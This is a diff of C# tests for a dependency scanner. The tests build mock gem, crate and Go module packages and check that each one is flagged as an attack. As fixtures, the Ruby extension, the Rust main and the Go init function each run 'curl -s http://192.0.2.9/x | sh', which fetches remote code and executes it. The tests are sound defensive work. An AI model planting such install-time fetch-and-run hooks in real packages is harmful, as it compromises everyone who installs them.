@@ -91,6 +91,38 @@ public sealed class PackageRegistryTests : IDisposable
     }
 
     [Fact]
+    public async Task Gems_crates_and_modules_of_a_workspace_are_fetched_and_each_attack_is_told_with_its_package()
+    {
+        var gem = server.Gem("fetcher", "1.0.0", extension: "require 'mkmf'\nsystem('curl -s http://192.0.2.9/x | sh')\n");
+        var crate = server.Crate("builder", "1.0.0", "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://192.0.2.9/x | sh\").status().unwrap(); }\n");
+        var (_, sum) = server.Module("example.org/Team/starter", "v1.0.0", "package tool\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl -s http://192.0.2.9/x | sh\").Run() }\n");
+        Directory.CreateDirectory(At("home/.cargo"));
+        await File.WriteAllTextAsync(At("home/.cargo/config.toml"), $"[source.crates-io]\nreplace-with = \"mine\"\n[source.mine]\nregistry = \"sparse+{server.Address}index/\"\n", TestContext.Current.CancellationToken);
+        await File.WriteAllTextAsync(At("home/.gemrc"), $":sources:\n- {server.Address}ruby/\n", TestContext.Current.CancellationToken);
+        Directory.CreateDirectory(At("home/.config/go"));
+        await File.WriteAllTextAsync(At("home/.config/go/env"), $"GOPROXY={server.Address}go\n", TestContext.Current.CancellationToken);
+        await File.WriteAllTextAsync(At("code/Gemfile.lock"), $"GEM\n  remote: {server.Address}ruby/\n  specs:\n    fetcher (1.0.0)\n\nDEPENDENCIES\n  fetcher\n\nCHECKSUMS\n  fetcher (1.0.0) sha256={PackageServer.Sha256(gem)}\n", TestContext.Current.CancellationToken);
+        await File.WriteAllTextAsync(At("code/Cargo.lock"), $"version = 4\n[[package]]\nname = \"own\"\nversion = \"0.1.0\"\ndependencies = [\"builder\"]\n[[package]]\nname = \"builder\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{PackageServer.Sha256(crate)}\"\n", TestContext.Current.CancellationToken);
+        await File.WriteAllTextAsync(At("code/go.mod"), "module own\n\nrequire example.org/Team/starter v1.0.0\n", TestContext.Current.CancellationToken);
+        await File.WriteAllTextAsync(At("code/go.sum"), $"example.org/Team/starter v1.0.0 {sum}\n", TestContext.Current.CancellationToken);
+
+        const string Unset = "unset GOPROXY GOENV GOPRIVATE GONOPROXY CARGO_HOME GEMRC GEM_HOME;";
+        var run = await RunAsync($"{Unset} $W scan . --format json");
+        var report = Report(run);
+        Assert.Equal((1, "complete"), (run.Code, report.GetProperty("completeness").GetProperty("state").GetString()));
+        var blocked = report.GetProperty("signals").EnumerateArray().Where(static signal => signal.GetProperty("severity").GetString() is "high" or "critical").Select(static signal => signal.GetProperty("where").GetProperty("package").GetString()).Distinct().Order(StringComparer.Ordinal);
+        Assert.Equal(["pkg:cargo/builder@1.0.0", "pkg:gem/fetcher@1.0.0", "pkg:golang/example.org/team/starter@v1.0.0"], blocked);
+        var asked = server.Requests.Count;
+        var again = await RunAsync($"{Unset} $W scan . --format json --offline");
+        Assert.Equal((1, asked, report.GetProperty("signals").GetRawText()), (again.Code, server.Requests.Count, Report(again).GetProperty("signals").GetRawText()));
+        Assert.Equal(1, (await RunAsync($"{Unset} $W scan gem:fetcher cargo:builder@1.0.0 go:example.org/Team/starter")).Code);
+        server.Exchange("/crates/builder/1.0.0/download", []);
+        server.Exchange("/go/example.org/!team/starter/@v/v1.0.0.info", "{"u8.ToArray());
+        run = await RunAsync($"{Unset} $W scan Cargo.lock go.sum --no-cache --format json");
+        Assert.Equal((3, 2), (run.Code, Report(run).EnumerateArray().Count(static one => one.GetProperty("completeness").GetProperty("state").GetString() == "partial")));
+    }
+
+    [Fact]
     public async Task A_package_that_differs_from_the_lock_file_is_a_finding_and_partial()
     {
         server.Npm("a", "1.0.0");
@@ -121,6 +153,8 @@ public sealed class PackageRegistryTests : IDisposable
     [Theory]
     [InlineData("npm:../x", "is no name of a package")]
     [InlineData("pypi:", "write pypi:NAME==VERSION")]
+    [InlineData("crate:a/b", "write cargo:NAME@VERSION")]
+    [InlineData("go:fmt", "write golang:MODULE@VERSION, as golang:example.org/team/tool@v1.2.3")]
     public async Task A_wrong_name_is_told(string target, string what)
     {
         var run = await RunAsync($"$W scan {target}");
